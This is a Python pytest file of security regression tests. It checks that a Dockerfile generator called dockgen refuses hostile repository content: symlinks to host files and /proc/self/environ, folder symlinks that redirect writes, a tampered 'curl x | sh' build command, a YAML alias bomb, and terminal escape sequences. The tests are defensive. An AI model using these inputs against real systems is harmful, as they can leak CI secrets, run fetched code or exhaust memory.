"""Hostile repositories, round two (issue 18): `check`, `init`, `update` on content a stranger wrote.

The CI drift job runs `dockgen check` on pull requests, so every file a repository brings, the
generated ones included, is hostile input: a symlink must not leak a host file into a diff, a
folder symlink must not steer a write outside the repository, an answers file is repository
content (not the user's intent), a YAML bomb is refused at once, repository text never drives the
terminal, and an interrupt never leaves a half-written project that says "nothing was written".
One test (or one parametrized test) per class of the issue, each failing before its fix.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from conftest import copy_fixture, make_tree
from dockgen import _render
from dockgen.build._dockerfile import syntax_problem
from dockgen.cli import main

SECRET = "TOP-SECRET-TOKEN-4711"


def cli(
    *argv: str, env: dict[str, str] | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    """dockgen in a child process (its own /proc/self/environ, a real exit code)."""
    return subprocess.run(
        [sys.executable, "-m", "dockgen", *argv],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, **(env or {})},
    )


def initialised(name: str, tmp_path: Path) -> Path:
    project = copy_fixture(name, tmp_path)
    assert main(["init", str(project), "-y", "--no-build"]) == 0
    return project


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


# ---- 1. generated files are read through Project's guards ------------------------------------------
@pytest.mark.parametrize(
    "name", ["Dockerfile", ".dockerignore", ".copier-answers.yml", ".dockgen/healthcheck.go"]
)
def test_1_check_never_prints_a_file_a_generated_symlink_points_to(tmp_path: Path, name: str) -> None:
    project = initialised("go-api", tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text(f"CI_TOKEN={SECRET}\n")
    (project / name).unlink()
    (project / name).symlink_to(outside)
    result = cli("check", str(project))
    assert result.returncode == 2, result.stdout + result.stderr
    assert SECRET not in result.stdout + result.stderr
    assert f"{name}: symlink points outside the repository" in result.stderr


def test_1_check_never_prints_the_ci_environment(tmp_path: Path) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    (project / "Dockerfile").unlink()
    (project / "Dockerfile").symlink_to("/proc/self/environ")
    for argv in (["check", str(project)], ["init", str(project), "-y", "--no-build", "--diff"]):
        result = cli(*argv, env={"CI_TOKEN": SECRET})
        assert result.returncode == 2, result.stdout + result.stderr
        assert SECRET not in result.stdout + result.stderr
        assert "Dockerfile: symlink points outside the repository" in result.stderr


def test_1_a_fifo_in_place_of_a_generated_file_is_refused_without_blocking(tmp_path: Path) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    (project / ".dockerignore").unlink()
    os.mkfifo(project / ".dockerignore")
    for argv in (["check", str(project)], ["init", str(project), "-y", "--no-build", "--force"]):
        result = cli(*argv, timeout=60)
        assert result.returncode == 2, result.stdout + result.stderr
        assert ".dockerignore: not a regular file" in result.stderr


def test_1_the_answers_file_through_a_symlink_is_refused(tmp_path: Path) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    outside = tmp_path / "answers.yml"
    outside.write_bytes((project / ".copier-answers.yml").read_bytes())
    (project / ".copier-answers.yml").unlink()
    (project / ".copier-answers.yml").symlink_to(outside)
    for argv in (["init", str(project), "-y", "--no-build"], ["update", str(project)]):
        result = cli(*argv)
        assert result.returncode == 2, result.stdout + result.stderr
        assert ".copier-answers.yml: symlink points outside the repository" in result.stderr


# ---- 2. no write lands outside the repository ------------------------------------------------------
@pytest.mark.parametrize("force", [False, True])
def test_2_no_write_through_a_folder_symlink(tmp_path: Path, force: bool) -> None:
    project = copy_fixture("go-api", tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "healthcheck.go").write_text("theirs\n")
    (project / ".dockgen").symlink_to(elsewhere, target_is_directory=True)
    before = snapshot(project)
    result = cli("init", str(project), "-y", "--no-build", *(["--force"] if force else []))
    assert result.returncode == 2, result.stdout + result.stderr
    assert ".dockgen" in result.stderr and "symlink" in result.stderr
    assert sorted(p.name for p in elsewhere.iterdir()) == ["healthcheck.go"]
    assert (elsewhere / "healthcheck.go").read_text() == "theirs\n"
    assert snapshot(project) == before


def test_2_write_files_checks_every_component(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    project = tmp_path / "p"
    project.mkdir()
    (project / ".dockgen").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(_render.ExistingFileError, match=r"\.dockgen is a symlink"):
        _render.write_files(project, {"Dockerfile": b"FROM x\n", ".dockgen/nginx.conf": b"x"}, force=True)
    assert list(elsewhere.iterdir()) == [] and sorted(p.name for p in project.iterdir()) == [".dockgen"]


def test_2_update_refuses_a_symlinked_output_folder(tmp_path: Path) -> None:
    project = initialised("go-api", tmp_path)
    elsewhere = tmp_path / "elsewhere"
    (project / ".dockgen").rename(elsewhere)
    (project / ".dockgen").symlink_to(elsewhere, target_is_directory=True)
    git = ["git", "-C", str(project), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "x"], check=True)
    result = cli("update", str(project))
    assert result.returncode == 2, result.stdout + result.stderr
    assert ".dockgen is a symlink" in result.stderr


# ---- 4. recorded answers are repository content -------------------------------------------------------
def _tamper(project: Path, **answers: object) -> None:
    path = project / ".copier-answers.yml"
    data = yaml.safe_load(path.read_text())
    path.write_text(yaml.safe_dump({**data, **answers}, sort_keys=False))


def test_4_a_recorded_command_that_detection_disagrees_with_is_listed(tmp_path: Path) -> None:
    project = initialised("node-nest-ts", tmp_path)
    _tamper(project, build_command=["sh", "-c", "curl x | sh"])
    result = cli("init", str(project), "-y", "--no-build", "--force")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "Recorded in .copier-answers.yml and used, although the project's files say otherwise" in out
    listed = next(line for line in out.splitlines() if line.strip().startswith("build_command"))
    assert '["sh", "-c", "curl x | sh"]' in listed and "detected:" in listed and "build" in listed


class Scripted:
    """A Prompter that keeps every suggestion and answers each confirm with `confirm`."""

    def __init__(self, confirm: bool) -> None:
        self.answer = confirm
        self.confirms: list[str] = []

    def select(self, message, choices, default, instruction):
        return default

    def confirm(self, message, default, instruction):
        self.confirms.append(message)
        return self.answer if "Keep the recorded command?" in message else default

    def text(self, message, default, instruction, validate):
        return default

    def checkbox(self, message, choices, instruction):
        return []

    def show(self, text):
        pass


@pytest.mark.parametrize("keep", [False, True])
def test_4_the_wizard_confirms_a_recorded_command(tmp_path: Path, keep: bool) -> None:
    from dockgen._init import init

    project = initialised("node-nest-ts", tmp_path)
    _tamper(project, build_command=["sh", "-c", "curl x | sh"])
    prompter = Scripted(confirm=keep)
    result = init(project, prompter=prompter, force=True)
    asked = [m for m in prompter.confirms if "build_command" in m]
    assert len(asked) == 1 and "curl x | sh" in asked[0]
    assert ("curl x | sh" in (project / "Dockerfile").read_text()) is keep
    assert ("build_command" in result.recorded_differs) is keep


@pytest.mark.parametrize("src", ["/proc/self/cwd/template", "/proc/1/root/tmp/t", "{project}/evil-template"])
def test_4_src_path_tricks_are_refused(tmp_path: Path, src: str) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    path = project / ".copier-answers.yml"
    lines = [line for line in path.read_text().splitlines() if not line.startswith("_src_path")]
    path.write_text("\n".join([f"_src_path: {src.format(project=project)}", *lines]) + "\n")
    result = cli("check", str(project))
    assert result.returncode == 2, result.stdout + result.stderr
    assert ".copier-answers.yml: _src_path" in result.stderr


# ---- 5. YAML bombs and deep nesting ----------------------------------------------------------------------
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (BOMB, "YAML aliases (*name) are not allowed"),
        ("build_command: " + "[" * 3000 + "]" * 3000 + "\n", "nested deeper than"),
        ("port: 3000\n" + "#" * (300 * 1024) + "\n", "file is too large to read"),
    ],
)
def test_5_answers_file_bombs_are_input_errors(tmp_path: Path, payload: str, message: str) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    path = project / ".copier-answers.yml"
    path.write_text(path.read_text() + payload)
    started = time.monotonic()
    for argv in (["check", str(project)], ["init", str(project), "-y", "--no-build"]):
        result = cli(*argv, timeout=60)
        assert result.returncode == 2, result.stdout + result.stderr
        assert ".copier-answers.yml: " in result.stderr and message in result.stderr
        assert "Traceback" not in result.stderr
    assert time.monotonic() - started < 60  # a hang guard, not a speed target


# ---- 6. repository text never drives the terminal ---------------------------------------------------
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[H\r\x9b"


def test_6_repository_text_is_printed_escaped(tmp_path: Path) -> None:
    project = make_tree(
        tmp_path / "p",
        {
            "requirements.txt": f"flask==3.0.0\n-r extra{ESCAPES}.txt\n",
            "app.py": "from flask import Flask\napp = Flask(__name__)\n",
            "package.json": json.dumps({"name": "x", "main": f"srv{ESCAPES}.js"}),
        },
    )
    for argv in (["detect", str(project), "--kind", "python"], ["detect", str(project), "--kind", "node"]):
        result = cli(*argv)
        shown = result.stdout + result.stderr
        assert not any(c in shown for c in "\x1b\x07\x9b\r"), shown


def test_6_check_diffs_are_printed_escaped(tmp_path: Path) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    with (project / "Dockerfile").open("a") as handle:
        handle.write(f"# {ESCAPES}\n")
    result = cli("check", str(project))
    assert result.returncode == 1
    assert "\\x1b]0;pwned" in result.stdout and "\x1b" not in result.stdout + result.stderr


# ---- 10. generated files are read with a cap --------------------------------------------------------------
def test_10_a_huge_dockerignore_is_not_read_whole(tmp_path: Path) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    with (project / ".dockerignore").open("ab") as handle:
        handle.truncate(200 * 1024 * 1024)  # sparse: the size is what counts
    for argv in (["check", str(project)], ["init", str(project), "-y", "--no-build", "--force"]):
        result = cli(*argv, timeout=60)
        assert result.returncode == 2, result.stdout + result.stderr
        assert ".dockerignore: file is too large to read" in result.stderr


# ---- 11. a trailing newline passes no validator; a Dockerfile that does not parse is never written ---
@pytest.mark.parametrize(
    "argv",
    [
        ["--set", "runtime_version=22\n"],
        ["--set", "health_path=/health\n"],
        ["--set", 'dependency_files=["package.json\\n"]'],
        ["--set", 'native_deps=["sharp\\n"]'],
        ["--path", "apps/api\n"],
    ],
)
def test_11_trailing_newlines_are_refused(tmp_path: Path, argv: list[str]) -> None:
    project = copy_fixture("node-monorepo-npm" if "--path" in argv else "node-express-bcrypt", tmp_path)
    before = snapshot(project)
    result = cli("init", str(project), "-y", "--no-build", *argv)
    assert result.returncode == 2, result.stdout + result.stderr
    assert snapshot(project) == before


def test_11_a_recorded_answer_with_a_newline_is_never_rendered_nor_clean(tmp_path: Path) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    _tamper(project, health_path="/health\n")
    for argv in (["init", str(project), "-y", "--no-build", "--force"], ["check", str(project)]):
        result = cli(*argv)
        assert result.returncode == 2, result.stdout + result.stderr
        assert "health_path" in result.stderr and "clean" not in result.stdout
    assert "/health\n" not in (project / "Dockerfile").read_text()


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("FROM a\nCOPY apps/api\n /app\n", "line 3: '/app' is not a Dockerfile instruction"),
        ('FROM a\nCMD ["node", "a]\n', "line 2: CMD's exec form is not a valid JSON array"),
        ('FROM a\nHEALTHCHECK --interval=3s CMD ["node", 1]\n', "line 2: HEALTHCHECK's exec form"),
        ("FROM a\nRUN echo \\\n", "line 2: the file ends inside a continued line"),
        ("RUN echo\nFROM a\n", "line 1: RUN before the first FROM"),
        ('ARG V=1\nFROM a:${V}\n# c\nRUN --mount=type=cache,target=/x \\\n  # c\n  ["a", "b"]\n', None),
    ],
)
def test_11_syntax_problem(text: str, problem: str | None) -> None:
    found = syntax_problem(text)
    assert found == problem if problem is None else (found or "").startswith(problem)


# ---- 13. a symlink loop is an input error ------------------------------------------------------------
def test_13_a_symlink_loop_is_an_input_error(tmp_path: Path) -> None:
    (tmp_path / "package.json").symlink_to(tmp_path / "loop")
    (tmp_path / "loop").symlink_to(tmp_path / "package.json")
    result = cli("detect", str(tmp_path))
    assert result.returncode == 2, result.stderr
    assert "package.json: symlink loop" in result.stderr


# ---- 14. interrupts, and what a kill leaves --------------------------------------------------------------
def test_14_an_interrupt_right_after_a_rename_is_rolled_back(tmp_path: Path, monkeypatch) -> None:
    project = initialised("node-express-bcrypt", tmp_path)
    before = snapshot(project)
    real_replace = Path.replace

    def replace_then_interrupt(self: Path, target):
        real_replace(self, target)
        raise KeyboardInterrupt  # Ctrl-C between the rename and whatever follows it

    monkeypatch.setattr(Path, "replace", replace_then_interrupt)
    with pytest.raises(KeyboardInterrupt):
        _render.write_files(project, {"Dockerfile": b"new\n", ".dockerignore": b"new\n"}, force=True)
    monkeypatch.undo()
    assert snapshot(project) == before


def test_14_an_interrupt_in_the_test_build_says_what_was_written(tmp_path: Path, monkeypatch, capsys) -> None:
    import dockgen.cli

    def interrupted(*_args, **_kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(dockgen.cli, "_run_build", interrupted)
    project = copy_fixture("node-express-bcrypt", tmp_path)
    assert main(["init", str(project), "-y"]) == 130
    err = capsys.readouterr().err
    assert "nothing was written" not in err
    assert "interrupted during the test build; wrote and kept" in err and "Dockerfile" in err
    assert (project / "Dockerfile").is_file()


def test_14_staged_files_a_kill_left_are_removed_by_the_next_run(tmp_path: Path) -> None:
    project = copy_fixture("go-api", tmp_path)
    (project / ".dockgen").mkdir()
    stale = [
        project / ".Dockerfile.k1ll3d.dockgen-tmp",
        project / ".dockgen" / ".healthcheck.go.x.dockgen-tmp",
    ]
    for path in stale:
        path.write_text("half")
    assert main(["init", str(project), "-y", "--no-build"]) == 0
    assert not any(path.exists() for path in stale)
    assert not list(project.rglob("*.dockgen-tmp"))


def test_14_readme_says_what_a_kill_can_leave() -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
    assert "SIGKILL" in readme and ".dockgen-tmp" in readme
